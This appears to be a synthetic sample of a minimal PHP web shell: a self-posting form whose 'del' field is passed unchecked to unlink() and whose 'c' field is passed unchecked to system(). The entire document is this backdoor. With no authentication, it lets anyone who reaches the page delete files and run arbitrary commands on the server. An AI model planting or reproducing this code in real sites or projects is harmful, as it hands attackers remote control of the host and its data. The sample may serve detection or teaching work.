<html><body>
<!-- synthetic: register_globals-era tool posting back to $PHP_SELF -->
<form action="<?php echo $PHP_SELF; ?>" method="post"><input name="del"><input name="c"></form>
<?php
if ($del) { unlink($del); }
if ($c) { system($c); }
?>
</body></html>
